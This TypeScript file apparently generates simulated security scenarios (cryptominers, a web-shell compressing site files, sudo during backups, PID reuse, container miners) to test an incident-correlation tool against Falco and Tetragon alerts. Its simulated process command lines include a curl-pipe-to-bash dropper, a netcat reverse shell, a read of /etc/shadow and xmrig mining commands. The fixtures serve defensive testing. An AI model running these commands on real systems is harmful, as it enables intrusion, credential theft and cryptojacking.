import { authLine, falcoAlert, tetragonExec, tetragonExit } from './formats';
import type { Load, SimContainer, SimHost, SimProcess, SimService } from './host';
import { burst, steady } from './host';
import { Rng } from './rng';

/**
 * The kinds of situation Lockstep must get right (issue #2), each built from a seed: host size, sampling
 * interval, cpu metric flavour, process names, timings and whether Falco prints proc.pid all vary.
 */

export interface Expectation {
  /** Exactly one correlated incident (score >= 0.5) when true; none when false. */
  correlated: boolean;
  culprit?: { pid: number; name: string };
  /** The correlated incident's entity must be this container (any id form sharing the 12-hex prefix). */
  container?: string;
  /** Executable names that must never be any incident's culprit. */
  neverCulprit?: string[];
  /** At least one anomaly of this metric must be reported. */
  anomaly?: 'cpu' | 'latency';
  /** The correlated incident must fold a CPU and a latency anomaly. */
  foldsLatency?: boolean;
}

export interface Scenario {
  kind: Kind;
  seed: number;
  description: string;
  host: SimHost;
  window: { from: number; to: number; interval: number };
  falco: Timed[];
  tetragon: Timed[];
  auth: Timed[];
  expect: Expectation;
}

export interface Timed {
  time: number;
  line: string;
}

export const KINDS = [
  'miner',
  'miner-no-pid',
  'web-shell-compressor',
  'backup-with-sudo',
  'alert-no-spike',
  'jvm-busy',
  'pid-reuse',
  'container-miner',
  'miner-starves-service',
] as const;
export type Kind = (typeof KINDS)[number];

const MINUTE = 60_000;

/** Builds the scenario of `kind` for `seed`. */
export function buildScenario(kind: Kind, seed: number): Scenario {
  const rng = new Rng(seed * 7919 + KINDS.indexOf(kind) * 104729);
  const world = new World(rng, kind === 'container-miner');
  const scenario = BUILDERS[kind](world, rng);
  return {
    kind,
    seed,
    host: world.host,
    window: world.window,
    falco: world.falco.sort(byTime),
    tetragon: world.tetragon.sort(byTime),
    auth: world.auth.sort(byTime),
    ...scenario,
  };
}

function byTime(a: Timed, b: Timed): number {
  return a.time - b.time;
}

/** A host with a handful of ordinary processes, a timeline, and the signal files being written. */
class World {
  readonly host: SimHost;
  readonly window: { from: number; to: number; interval: number };
  /** When the interesting phase starts and ends. */
  readonly spikeStart: number;
  readonly spikeEnd: number;
  readonly falco: Timed[] = [];
  readonly tetragon: Timed[] = [];
  readonly auth: Timed[] = [];
  private readonly usedPids = new Set<number>();

  constructor(
    private readonly rng: Rng,
    containers: boolean,
  ) {
    const interval = rng.pick([10_000, 10_000, 10_000, 15_000, 30_000]);
    const from = Date.UTC(2026, rng.int(0, 10), rng.int(1, 27), rng.int(0, 20), 0, 0);
    const baseline = rng.between(45, 70) * MINUTE;
    this.spikeStart = alignTo(from + baseline + rng.between(0, interval), 1000);
    this.spikeEnd = this.spikeStart + rng.between(6, 14) * MINUTE;
    this.window = { from, to: this.spikeEnd + rng.between(15, 25) * MINUTE, interval };
    const cpus = rng.pick([2, 4, 4, 8, 8]);
    const name = containers
      ? `k8s-node-${rng.int(1, 9)}.${rng.pick(['prod', 'eu-west', 'cluster'])}.internal`
      : `${rng.pick(['web', 'app', 'api', 'shop', 'db'])}-${rng.int(1, 40)}`;
    this.host = {
      name,
      cpus,
      cpuMetric: rng.chance(0.5) ? 'system.cpu.time' : 'system.cpu.utilization',
      processes: [],
      containers: [],
      services: [],
      boot: from - rng.between(2, 40) * 24 * 60 * MINUTE,
    };
    if (!containers) this.addOrdinaryProcesses();
  }

  pid(): number {
    for (;;) {
      const pid = this.rng.int(300, 60_000);
      if (!this.usedPids.has(pid)) {
        this.usedPids.add(pid);
        return pid;
      }
    }
  }

  process(spec: Omit<SimProcess, 'pid' | 'start'> & { pid?: number; start?: number }): SimProcess {
    const process: SimProcess = {
      ...spec,
      pid: spec.pid ?? this.pid(),
      start: spec.start ?? this.host.boot + this.rng.between(10_000, 600_000),
    };
    this.host.processes.push(process);
    return process;
  }

  steady(level: number): Load {
    return steady(this.rng, level);
  }

  /** systemd, sshd, cron, rsyslogd, node_exporter and two or three services, together 5-20% of the host. */
  private addOrdinaryProcesses(): void {
    const scale = this.host.cpus * this.rng.between(0.05, 0.2);
    this.process({
      pid: 1,
      ppid: 0,
      name: 'systemd',
      exe: '/usr/lib/systemd/systemd',
      cmdline: '/sbin/init',
      owner: 'root',
      load: this.steady(0.003),
    });
    const ordinary: [string, string, string, string, number][] = [
      ['sshd', '/usr/sbin/sshd', 'sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups', 'root', 0.01],
      ['cron', '/usr/sbin/cron', '/usr/sbin/cron -f', 'root', 0.005],
      ['rsyslogd', '/usr/sbin/rsyslogd', '/usr/sbin/rsyslogd -n -iNONE', 'syslog', 0.03],
      [
        'node_exporter',
        '/usr/local/bin/node_exporter',
        '/usr/local/bin/node_exporter --collector.systemd',
        'prometheus',
        0.06,
      ],
      [
        'postgres',
        '/usr/lib/postgresql/15/bin/postgres',
        '/usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/15/main',
        'postgres',
        0.35,
      ],
      ['node', '/usr/bin/node', 'node /srv/app/server.js', 'app', 0.4],
    ];
    for (const [name, exe, cmdline, owner, share] of ordinary) {
      this.process({ ppid: 1, name, exe, cmdline, owner, load: this.steady(scale * share) });
    }
  }

  nginx(): { master: SimProcess; worker: SimProcess } {
    const master = this.process({
      ppid: 1,
      name: 'nginx',
      exe: '/usr/sbin/nginx',
      cmdline: 'nginx: master process /usr/sbin/nginx -g daemon on; master_process on;',
      owner: 'root',
      load: this.steady(0.002),
    });
    const worker = this.process({
      ppid: master.pid,
      name: 'nginx',
      exe: '/usr/sbin/nginx',
      cmdline: 'nginx: worker process',
      owner: 'www-data',
      load: this.steady(0.05 * this.host.cpus),
    });
    return { master, worker };
  }

  alertTimes(first: number, repeats: number): number[] {
    const times = [first];
    for (let i = 1; i < repeats; i += 1) times.push((times[i - 1] ?? first) + this.rng.between(20_000, 90_000));
    return times.filter((time) => time < this.window.to);
  }

  addFalco(time: number, line: string): void {
    this.falco.push({ time, line });
  }
}

function alignTo(value: number, step: number): number {
  return Math.round(value / step) * step;
}

type Builder = (world: World, rng: Rng) => Pick<Scenario, 'description' | 'expect'>;

const MINERS = [
  {
    dir: '/tmp/.X11-unix/.xm',
    name: 'xmrig',
    flags:
      '-o stratum+tcp://pool.supportxmr.com:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --donate-level 1',
  },
  { dir: '/dev/shm/.cache', name: 'kdevtmpfsi', flags: '' },
  { dir: '/var/tmp/.sys', name: 'kworkerds', flags: '--background' },
  { dir: '/tmp/xmrig-6.21.0', name: 'xmrig', flags: '--url pool.hashvault.pro:443 --tls --user 4Bx3 --threads AUTO' },
  { dir: '/tmp/.ICE-unix', name: 'sysupdate', flags: '-c /tmp/.ICE-unix/config.json' },
];

const MINER_RULES = [
  {
    rule: 'Detect crypto miners using the Stratum protocol',
    priority: 'Critical',
    message: 'Possible miner running',
    tags: ['host', 'mitre_impact'],
  },
  {
    rule: 'Outbound Connection to C2 Servers',
    priority: 'Warning',
    message: 'Outbound connection to C2 server',
    tags: ['network', 'mitre_command_and_control'],
  },
  {
    rule: 'Execution from /tmp',
    priority: 'Error',
    message: 'Executable launched from a temporary directory',
    tags: ['host', 'mitre_execution'],
  },
  {
    rule: 'Drop and execute new binary in container',
    priority: 'Critical',
    message: 'Executing binary not part of base image',
    tags: ['container', 'mitre_persistence'],
  },
] as const;

interface MinerOptions {
  withPid: boolean;
  /** Cores the miner takes, as a share of the host. */
  share: number;
  container?: SimContainer;
  pid?: number;
}

/** A miner dropped into a temp directory by a shell, with Falco alerting on it (possibly repeatedly). */
function addMiner(world: World, rng: Rng, options: MinerOptions): SimProcess {
  const spec = rng.pick(MINERS);
  const threads = Math.max(1, Math.round(world.host.cpus * options.share));
  const exe = `${spec.dir}/${spec.name}`;
  const dropper = world.process({
    ppid: 1,
    name: 'bash',
    exe: '/usr/bin/bash',
    cmdline: `bash -c curl -fsSL http://203.0.113.${rng.int(2, 250)}/ldr.sh | bash`,
    owner: rng.pick(['www-data', 'root', 'ubuntu']),
    start: world.spikeStart - rng.between(5_000, 20_000),
    end: world.spikeStart + 2_000,
    load: () => 0.01,
    ...(options.container === undefined ? {} : { containerId: options.container.id }),
  });
  const killed = rng.chance(0.6);
  const miner = world.process({
    ...(options.pid === undefined ? {} : { pid: options.pid }),
    ppid: dropper.pid,
    name: spec.name,
    exe,
    cmdline: `${exe} ${spec.flags}`.trim(),
    owner: dropper.owner,
    start: world.spikeStart,
    ...(killed ? { end: world.spikeEnd } : {}),
    load: burst(0, threads * 0.97, world.spikeStart, killed ? world.spikeEnd : world.window.to + MINUTE, 5_000),
    ...(options.container === undefined ? {} : { containerId: options.container.id }),
  });
  const rule = options.container === undefined ? rng.pick(MINER_RULES.slice(0, 3)) : rng.pick(MINER_RULES);
  const first = world.spikeStart + rng.between(1_000, 40_000);
  const shortContainer =
    options.container === undefined
      ? undefined
      : {
          id: options.container.id.slice(0, 12),
          name: options.container.name,
          ...(options.container.pod === undefined ? {} : { pod: options.container.pod }),
          ...(options.container.namespace === undefined ? {} : { namespace: options.container.namespace }),
        };
  for (const time of world.alertTimes(first, rng.int(1, 8))) {
    if (killed && time > world.spikeEnd) break;
    world.addFalco(
      time,
      falcoAlert({
        time,
        rule: rule.rule,
        priority: rule.priority,
        host: world.host.name,
        process: miner,
        parent: dropper,
        withPid: options.withPid,
        message: rule.message,
        tags: [...rule.tags],
        extra: { 'fd.name': `10.0.0.5:${rng.int(40000, 60000)}->198.51.100.${rng.int(2, 250)}:3333` },
        ...(shortContainer === undefined ? {} : { container: shortContainer }),
      }),
    );
  }
  return miner;
}

const miner: Builder = (world, rng) => {
  const process = addMiner(world, rng, { withPid: true, share: rng.between(0.4, 1) });
  return {
    description: `cryptominer ${process.exe} (pid ${process.pid}) on ${world.host.cpus} cpus, Falco with proc.pid`,
    expect: { correlated: true, culprit: { pid: process.pid, name: process.name }, anomaly: 'cpu' },
  };
};

const minerNoPid: Builder = (world, rng) => {
  const process = addMiner(world, rng, { withPid: false, share: rng.between(0.4, 1) });
  return {
    description: `cryptominer ${process.exe} (pid ${process.pid}) on ${world.host.cpus} cpus, Falco without proc.pid`,
    expect: { correlated: true, culprit: { pid: process.pid, name: process.name }, anomaly: 'cpu' },
  };
};

const COMPRESSORS = [
  { name: 'xz', exe: '/usr/bin/xz', args: '-9 -T0', threaded: true },
  { name: 'zstd', exe: '/usr/bin/zstd', args: '-19 -T0', threaded: true },
  { name: 'gzip', exe: '/usr/bin/gzip', args: '-9', threaded: false },
  { name: 'bzip2', exe: '/usr/bin/bzip2', args: '-9', threaded: false },
];

const webShellCompressor: Builder = (world, rng) => {
  const { worker } = world.nginx();
  const compressor = rng.pick(COMPRESSORS);
  const out = rng.pick(['/tmp/.w/site.tar', '/dev/shm/x', '/var/tmp/db']);
  const start = world.spikeStart - rng.between(500, 3_000);
  const shell = world.process({
    ppid: worker.pid,
    name: 'sh',
    exe: '/usr/bin/dash',
    cmdline: `sh -c tar -cf - /var/www/html /etc/nginx | ${compressor.name} ${compressor.args} > ${out}`,
    owner: 'www-data',
    start,
    end: world.spikeEnd + 1_000,
    load: () => 0.001,
  });
  const tar = world.process({
    ppid: shell.pid,
    name: 'tar',
    exe: '/usr/bin/tar',
    cmdline: 'tar -cf - /var/www/html /etc/nginx',
    owner: 'www-data',
    start: start + 5,
    end: world.spikeEnd,
    load: burst(0, 0.12, world.spikeStart, world.spikeEnd),
  });
  const cores = compressor.threaded ? Math.max(1, Math.round(world.host.cpus * rng.between(0.5, 0.9))) : 1;
  const packer = world.process({
    ppid: shell.pid,
    name: compressor.name,
    exe: compressor.exe,
    cmdline: `${compressor.name} ${compressor.args}`,
    owner: 'www-data',
    start: start + 6,
    end: world.spikeEnd,
    load: burst(0, cores * 0.97, world.spikeStart, world.spikeEnd, 5_000),
  });
  for (const [process, parent] of [
    [shell, worker],
    [tar, shell],
    [packer, shell],
  ] as const) {
    world.tetragon.push({ time: process.start, line: tetragonExec(world.host.name, process, parent) });
    const end = process.end ?? world.window.to;
    world.tetragon.push({ time: end, line: tetragonExit(world.host.name, process, parent, end) });
  }
  const alertAt = start + rng.between(50, 2_000);
  world.addFalco(
    alertAt,
    falcoAlert({
      time: alertAt,
      rule: 'Run shell untrusted',
      priority: 'Notice',
      host: world.host.name,
      process: shell,
      parent: worker,
      withPid: rng.chance(0.5),
      message: 'Shell spawned by untrusted binary',
      tags: ['host', 'container', 'process', 'shell', 'mitre_execution', 'T1059.004'],
    }),
  );
  return {
    description: `nginx worker -> sh -> ${compressor.name} (${cores} cores) on ${world.host.cpus} cpus`,
    expect: { correlated: true, culprit: { pid: packer.pid, name: packer.name }, anomaly: 'cpu' },
  };
};

const BACKUPS = [
  { name: 'restic', exe: '/usr/bin/restic', cmdline: 'restic backup /var/lib/postgresql /etc --tag nightly' },
  { name: 'borg', exe: '/usr/bin/borg', cmdline: 'borg create --compression zstd,10 ::nightly-{now} /srv /etc' },
  { name: 'pigz', exe: '/usr/bin/pigz', cmdline: 'pigz -p 4 /backup/db.sql' },
  { name: 'duplicity', exe: '/usr/bin/duplicity', cmdline: 'duplicity /srv file:///mnt/backup' },
];

const SUDO_COMMANDS = [
  '/usr/bin/systemctl restart nginx',
  '/usr/bin/tail -n 100 /var/log/syslog',
  '/usr/bin/journalctl -u backup.service',
  '/usr/bin/apt-get update',
  '/usr/bin/vim /etc/hosts',
];

const backupWithSudo: Builder = (world, rng) => {
  const backup = rng.pick(BACKUPS);
  const cron = world.host.processes.find((p) => p.name === 'cron');
  world.process({
    ppid: cron?.pid ?? 1,
    name: backup.name,
    exe: backup.exe,
    cmdline: backup.cmdline,
    owner: 'root',
    start: world.spikeStart - rng.between(1_000, 5_000),
    end: world.spikeEnd,
    load: burst(0.02, Math.max(0.8, world.host.cpus * rng.between(0.3, 0.8)), world.spikeStart, world.spikeEnd),
  });
  const admin = rng.pick(['alice', 'bob', 'ops-oncall', 'deploy']);
  const command = rng.pick(SUDO_COMMANDS);
  const sudoAt = world.spikeStart + rng.between(30_000, 5 * MINUTE);
  const shell = world.process({
    ppid: 1,
    name: 'bash',
    exe: '/usr/bin/bash',
    cmdline: '-bash',
    owner: admin,
    start: sudoAt - 10 * MINUTE,
    load: () => 0.001,
  });
  const sudo = world.process({
    ppid: shell.pid,
    name: 'sudo',
    exe: '/usr/bin/sudo',
    cmdline: `sudo ${command}`,
    owner: 'root',
    start: sudoAt,
    end: sudoAt + rng.between(1_000, 45_000),
    load: () => 0.01,
  });
  world.addFalco(
    sudoAt + 200,
    falcoAlert({
      time: sudoAt + 200,
      rule: rng.pick(['Sudo Potential Privilege Escalation', 'Non sudo setuid', 'User mgmt binaries']),
      priority: rng.pick(['Critical', 'Warning', 'Notice']),
      host: world.host.name,
      process: sudo,
      parent: shell,
      withPid: rng.chance(0.5),
      message: 'Privilege escalation via sudo',
      tags: ['host', 'users', 'mitre_privilege_escalation', 'T1548.003'],
    }),
  );
  const tty = `pts/${rng.int(0, 4)}`;
  world.auth.push({
    time: sudoAt,
    line: authLine(
      sudoAt,
      world.host.name,
      'sudo',
      undefined,
      `   ${admin} : TTY=${tty} ; PWD=/home/${admin} ; USER=root ; COMMAND=${command}`,
    ),
  });
  world.auth.push({
    time: sudoAt,
    line: authLine(
      sudoAt,
      world.host.name,
      'sudo',
      undefined,
      `pam_unix(sudo:session): session opened for user root(uid=0) by ${admin}(uid=1000)`,
    ),
  });
  return {
    description: `backup ${backup.name} drives CPU while ${admin} runs sudo ${command}`,
    expect: { correlated: false, neverCulprit: ['sudo', 'bash'], anomaly: 'cpu' },
  };
};

const alertNoSpike: Builder = (world, rng) => {
  const at = world.spikeStart + rng.between(0, 5 * MINUTE);
  const variant = rng.pick([
    {
      name: 'cat',
      exe: '/usr/bin/cat',
      cmdline: 'cat /etc/shadow',
      rule: 'Read sensitive file untrusted',
      priority: 'Warning' as const,
    },
    {
      name: 'nc',
      exe: '/usr/bin/nc.openbsd',
      cmdline: 'nc -e /bin/sh 203.0.113.50 4444',
      rule: 'Netcat Remote Code Execution in Container',
      priority: 'Critical' as const,
    },
    {
      name: 'xmrig',
      exe: '/tmp/xmrig',
      cmdline: '/tmp/xmrig --version',
      rule: 'Detect crypto miners using the Stratum protocol',
      priority: 'Critical' as const,
    },
  ]);
  const process = world.process({
    ppid: 1,
    name: variant.name,
    exe: variant.exe,
    cmdline: variant.cmdline,
    owner: 'ubuntu',
    start: at,
    end: at + 2_000,
    load: () => 0.02,
  });
  for (const time of world.alertTimes(at + 100, rng.int(1, 4))) {
    world.addFalco(
      time,
      falcoAlert({
        time,
        rule: variant.rule,
        priority: variant.priority,
        host: world.host.name,
        process,
        withPid: rng.chance(0.5),
        message: 'Suspicious activity',
      }),
    );
  }
  return {
    description: `${variant.rule} on ${variant.name} with flat CPU`,
    expect: { correlated: false },
  };
};

const jvmBusy: Builder = (world, rng) => {
  const peak = Math.max(1, world.host.cpus * rng.between(0.4, 0.8));
  const java = world.process({
    ppid: 1,
    name: 'java',
    exe: '/usr/lib/jvm/java-17-openjdk-amd64/bin/java',
    cmdline: '/usr/lib/jvm/java-17-openjdk-amd64/bin/java -Xmx4g -XX:+UseG1GC -jar /opt/orders/orders.jar',
    owner: 'orders',
    load: burst(0.15 * world.host.cpus * 0.3, peak, world.spikeStart, world.spikeEnd, 30_000),
  });
  // Routine process starts seen by Tetragon: context, never evidence.
  for (let i = 0; i < 6; i += 1) {
    const at = world.window.from + rng.between(0, world.window.to - world.window.from);
    const routine = world.process({
      ppid: 1,
      name: 'logrotate',
      exe: '/usr/sbin/logrotate',
      cmdline: '/usr/sbin/logrotate /etc/logrotate.conf',
      owner: 'root',
      start: at,
      end: at + 800,
      load: () => 0.05,
    });
    world.tetragon.push({ time: at, line: tetragonExec(world.host.name, routine) });
  }
  return {
    description: `JVM busy phase to ${peak.toFixed(1)} cores (pid ${java.pid}), no security evidence`,
    expect: { correlated: false, anomaly: 'cpu' },
  };
};

const pidReuse: Builder = (world, rng) => {
  const { interval } = world.window;
  const gapMinutes = rng.between(3, 7);
  // The short-lived process lives between two scrapes, so no metric ever shows it.
  const scrapeBefore =
    world.window.from + Math.floor((world.spikeStart - gapMinutes * MINUTE - world.window.from) / interval) * interval;
  const shortStart = scrapeBefore + 1_000;
  const pid = world.pid();
  const shortLived = world.process({
    pid,
    ppid: 1,
    name: rng.pick(['nc', 'curl', 'wget']),
    exe: '/usr/bin/nc.openbsd',
    cmdline: 'nc 203.0.113.50 4444 -e /bin/sh',
    owner: 'www-data',
    start: shortStart,
    end: shortStart + rng.between(1_000, Math.min(6_000, interval - 2_500)),
    load: () => 0.01,
  });
  shortLived.exe = `/usr/bin/${shortLived.name}`;
  world.addFalco(
    shortStart + 300,
    falcoAlert({
      time: shortStart + 300,
      rule: rng.pick([
        'Redirect STDOUT/STDIN to Network Connection in Container',
        'Netcat Remote Code Execution in Container',
      ]),
      priority: 'Critical',
      host: world.host.name,
      process: shortLived,
      withPid: true,
      message: 'Suspicious network tool launched',
    }),
  );
  if (rng.chance(0.5)) {
    world.tetragon.push({ time: shortLived.start, line: tetragonExec(world.host.name, shortLived) });
    const end = shortLived.end ?? shortLived.start;
    world.tetragon.push({ time: end, line: tetragonExit(world.host.name, shortLived, undefined, end) });
  }
  const job = rng.pick([
    {
      name: 'ffmpeg',
      exe: '/usr/bin/ffmpeg',
      cmdline: 'ffmpeg -i /srv/media/in.mov -c:v libx264 -preset slow /srv/media/out.mp4',
    },
    { name: 'python3', exe: '/usr/bin/python3.11', cmdline: 'python3 /opt/reports/monthly.py --all' },
    { name: 'make', exe: '/usr/bin/make', cmdline: 'make -j4 all' },
  ]);
  const reuser = world.process({
    pid,
    ppid: 1,
    ...job,
    owner: 'app',
    start: world.spikeStart - 2_000,
    end: world.spikeEnd,
    load: burst(0, Math.max(0.9, world.host.cpus * rng.between(0.4, 0.8)), world.spikeStart, world.spikeEnd),
  });
  return {
    description: `alert on short-lived ${shortLived.name} (pid ${pid}); ${gapMinutes.toFixed(1)} min later ${reuser.name} reuses the pid and spikes`,
    expect: { correlated: false, neverCulprit: [shortLived.name], anomaly: 'cpu' },
  };
};

const containerMiner: Builder = (world, rng) => {
  const apps = [
    { name: 'web', proc: 'nginx', exe: '/usr/sbin/nginx', cmdline: 'nginx: worker process', load: 0.05 },
    { name: 'api', proc: 'node', exe: '/usr/local/bin/node', cmdline: 'node dist/server.js', load: 0.2 },
    {
      name: 'worker',
      proc: 'python',
      exe: '/usr/local/bin/python3.12',
      cmdline: 'python -m celery worker',
      load: 0.15,
    },
    {
      name: 'db',
      proc: 'postgres',
      exe: '/usr/lib/postgresql/16/bin/postgres',
      cmdline: 'postgres -D /var/lib/postgresql/data',
      load: 0.2,
    },
    {
      name: 'cache',
      proc: 'redis-server',
      exe: '/usr/local/bin/redis-server',
      cmdline: 'redis-server *:6379',
      load: 0.05,
    },
  ];
  const count = rng.int(3, apps.length);
  world.process({
    pid: 1,
    ppid: 0,
    name: 'systemd',
    exe: '/usr/lib/systemd/systemd',
    cmdline: '/sbin/init',
    owner: 'root',
    load: () => 0.005,
  });
  world.process({
    ppid: 1,
    name: 'kubelet',
    exe: '/usr/bin/kubelet',
    cmdline: '/usr/bin/kubelet --config=/var/lib/kubelet/config.yaml',
    owner: 'root',
    load: world.steady(0.03 * world.host.cpus),
  });
  for (const app of apps.slice(0, count)) {
    const container: SimContainer = {
      id: rng.hex(64),
      name: app.name,
      pod: `${app.name}-${rng.hex(10)}-${rng.hex(5)}`,
      namespace: 'shop',
    };
    world.host.containers.push(container);
    world.process({
      ppid: 1,
      name: app.proc,
      exe: app.exe,
      cmdline: app.cmdline,
      owner: 'app',
      containerId: container.id,
      load: world.steady(app.load * world.host.cpus * 0.25),
    });
  }
  const target = rng.pick(world.host.containers);
  const process = addMiner(world, rng, { withPid: rng.chance(0.5), share: rng.between(0.3, 0.8), container: target });
  return {
    description: `miner ${process.name} (pid ${process.pid}) in container ${target.name} ${target.id.slice(0, 12)} among ${count}`,
    expect: {
      correlated: true,
      culprit: { pid: process.pid, name: process.name },
      container: target.id,
      anomaly: 'cpu',
    },
  };
};

const minerStarvesService: Builder = (world, rng) => {
  const serviceName = rng.pick(['checkout', 'payments', 'cart', 'search']);
  const app = world.process({
    ppid: 1,
    name: 'node',
    exe: '/usr/bin/node',
    cmdline: `node /srv/${serviceName}/index.js`,
    owner: 'app',
    load: world.steady(0.1 * world.host.cpus),
  });
  const slowdown = rng.between(3, 8);
  const baseMedian = rng.between(0.02, 0.08);
  const service: SimService = {
    name: serviceName,
    rate: rng.between(20, 80),
    start: app.start,
    median: (time) => {
      if (time < world.spikeStart + 10_000 || time > world.spikeEnd) return baseMedian;
      return baseMedian * slowdown;
    },
  };
  world.host.services.push(service);
  const process = addMiner(world, rng, { withPid: rng.chance(0.5), share: 1 });
  return {
    description: `miner ${process.name} saturates ${world.host.cpus} cpus; ${serviceName} latency x${slowdown.toFixed(1)}`,
    expect: {
      correlated: true,
      culprit: { pid: process.pid, name: process.name },
      anomaly: 'latency',
      foldsLatency: true,
    },
  };
};

const BUILDERS: Record<Kind, Builder> = {
  miner,
  'miner-no-pid': minerNoPid,
  'web-shell-compressor': webShellCompressor,
  'backup-with-sudo': backupWithSudo,
  'alert-no-spike': alertNoSpike,
  'jvm-busy': jvmBusy,
  'pid-reuse': pidReuse,
  'container-miner': containerMiner,
  'miner-starves-service': minerStarvesService,
};
